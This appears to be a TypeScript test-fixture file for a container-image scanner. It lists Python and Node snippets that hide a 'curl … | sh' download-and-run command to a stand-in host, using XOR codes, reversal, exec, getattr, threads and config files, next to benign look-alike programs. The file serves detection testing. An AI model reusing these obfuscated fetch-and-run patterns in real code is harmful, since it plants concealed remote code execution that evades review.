import { type Files, type ImageCase, image } from './image-case.ts';

const REST = 'rl -s https://files.backend.example/u | sh';
const CODES = [...`cu${REST}`].map((char) => char.charCodeAt(0));
const BACK = [...`cu${REST}`].reverse().join('');

function one(language: 'python3' | 'node', name: string, text: string, files: Files): ImageCase {
  const file = language === 'node' ? 'srv/m.js' : 'srv/m.py';
  return {
    name: `put together: ${name}`,
    spec: image({ [file]: `${text}\n`, ...files }, { Cmd: [language, `/${file}`] }),
    rule: 'start/download-and-run',
    severity: 'high',
  };
}

function python(name: string, text: string, files: Files = {}): ImageCase {
  return one('python3', `Python, ${name}`, `import os, subprocess\n${text}`, files);
}

function node(name: string, text: string, files: Files = {}): ImageCase {
  return one('node', `Node, ${name}`, `const cp = require("child_process");\n${text}`, files);
}

/** Commands that no text shows in one piece. All inert. */
export const PUT_TOGETHER: readonly ImageCase[] = [
  python('piece by piece', `cmd = "cu"\ncmd += "${REST}"\nos.system(cmd)`),
  python('a list that is filled', `p = []\np.append("cu")\np.extend(["${REST}"])\nos.system("".join(p))`),
  python('formatted', `x = "rl"\nos.system(f"cu{x} -s https://{'files.backend.example'}/u | {'s'}h")`),
  python(
    'by numbers',
    `x = [${CODES.map((code) => code ^ 7).join(',')}]\nc = ""\nfor n in x:\n    c += chr(n ^ 7)\nsubprocess.run(c, shell=True)`,
  ),
  python(
    'with letters between that a loop leaves out',
    `c = ""\nfor x in "${[...`cu${REST}`].join('~')}":\n    if x == "~":\n        continue\n    c += x\nos.system(c)`,
  ),
  python(
    'behind a loop that is longer than what is repeated',
    `def f():\n    for i in range(19000):\n        x = i + 1 - 2 + 3\n    os.system("cu" + "${REST}")\nf()`,
  ),
  python('turned round', `os.system("${BACK}"[::-1])`),
  python('by a function', `def g(a, b="${REST}"):\n    return "{}{}".format(a, b)\nos.system(g("cu"))`),
  python(
    'by a method',
    `class A:\n    def __init__(self, c):\n        self.c = c\n    def r(self):\n        os.system(self.c + "${REST}")\nA("cu").r()`,
  ),
  python(
    'in a branch',
    `if os.path.exists("/etc/x"):\n    c = "cu" + "${REST}"\nelse:\n    c = "date"\nos.system(c)`,
  ),
  python('by a name that is looked up', `getattr(os, "sys" + "tem")(" ".join(["cu${REST}"]))`),
  python(
    'handed to a thread',
    `import threading\nthreading.Thread(target=os.system, args=("cu" + "${REST}",)).start()`,
  ),
  python(
    'written to a shell',
    `p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\np.communicate(b"cu" + b"${REST}")`,
  ),
  python('written to a file', `open("/tmp/a", "w").write("cu" + "${REST}")\nos.system("sh /tmp/a")`),
  python('out of another file', 'from cfg import A, B\nos.system(A + B)', {
    'srv/cfg.py': `A = "cu"\nB = "${REST}"\n`,
  }),
  python('evaluated', `exec("import os;os.sys" + "tem('cu" + "${REST}')")`),
  python(
    'fetched under another name',
    'u = __import__("urllib.request").request\nexec(getattr(u, "url" + "open")("https://files.backend.example/u").read())',
  ),
  node('joined', `const p = [];\np.push("cu", "${REST}");\ncp.exec(p.join(""))`),
  node(
    'in a loop',
    `let c = "";\nfor (const n of [${CODES.join(',')}]) c += String.fromCharCode(n);\ncp.exec(c)`,
  ),
  node(
    'up to where a loop is left',
    `let c = "", i = 0;\ndo {\n  const x = "cu${REST}#zzz"[i++];\n  if (x === "#") break;\n  c += x;\n} while (true);\ncp.exec(c)`,
  ),
  node('cleaned', `cp.exec("cuXrl -s hXttps://files.backend.example/u | sXh".replace(/X/g, ""))`),
  node('turned round', `cp.exec("${BACK}".split("").reverse().join(""))`),
  node(
    'by names of an object',
    `const { a, b: { c } } = { a: "cu", b: { c: "${REST}" } };\ncp["ex" + "ec"](a + c)`,
  ),
  node(
    'by a table of texts',
    `const t = ["${REST}", "cu", "exec"];\nfunction f(i) { return t[i - 10]; }\ncp[f(12)](f(11) + f(10))`,
  ),
  node('out of JSON', 'const c = require("./c.json");\ncp.exec(c.a + c.b)', {
    'srv/c.json': JSON.stringify({ a: 'cu', b: REST }),
  }),
  node(
    'fetched and made a function',
    'fetch("https://files.backend.example/u").then((r) => r.text()).then((t) => (() => {}).constructor(t)())',
  ),
  {
    name: 'put together: more than is followed, handed to a shell',
    spec: image(
      {
        'srv/m.py': `import os\nc = "cu"\nfor a in range(9000):\n    for b in range(9000):\n        c = c.replace("x" + str(b), "y")\nos.system(c)\n`,
      },
      { Cmd: ['python3', '/srv/m.py'] },
    ),
    rule: 'coverage/not-fully-read',
  },
];

/** Honest programs that put commands together. */
export const PUT_TOGETHER_TWINS: readonly ImageCase[] = [
  {
    name: 'Python that puts a command together and only says it',
    spec: image(
      {
        'srv/m.py': `import subprocess, sys\nurl = "https://get.docker.example"\nhint = "curl -fsSL " + url + " | sh"\nprint("To install: " + hint)\nraise SystemExit(hint)\n`,
        'srv/n.py': `import subprocess\ndef git(*args):\n    return subprocess.check_output(["git"] + list(args)).decode().strip()\nfor part in ["rev-parse", "status"]:\n    git(part, "HEAD")\ncmd = []\ncmd.append("ffmpeg")\ncmd += ["-i", "in.mp4", "out.webm"]\nsubprocess.run(cmd, check=True)\ns = subprocess.run("curl -s https://api.example/" + "v1", shell=True)\n`,
      },
      { Entrypoint: ['sh', '-c', 'python3 /srv/m.py; python3 /srv/n.py'] },
    ),
  },
  {
    name: 'Node that puts commands together for tools',
    spec: image(
      {
        'srv/m.js': `const { execSync, spawn } = require("child_process");\nconst args = [];\nfor (const f of ["a", "b"]) args.push("--file", f + ".png");\nspawn("convert", [...args, "out.gif"]);\nconst api = ["https://api.example", "v1"].join("/");\nconst body = execSync("curl -s " + api + " | jq .").toString();\nfetch(api).then((r) => r.json()).then((j) => console.log(j.name.constructor.name, body));\n`,
      },
      { Cmd: ['node', '/srv/m.js'] },
    ),
  },
  {
    name: 'Python that goes through much and runs a tool',
    spec: image(
      {
        'srv/m.py':
          'import os\nt = {}\nfor a in range(9000):\n    for b in range(9000):\n        t[a] = a * b\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nfib(30)\nos.system("date")\n',
      },
      { Cmd: ['python3', '/srv/m.py'] },
    ),
  },
];
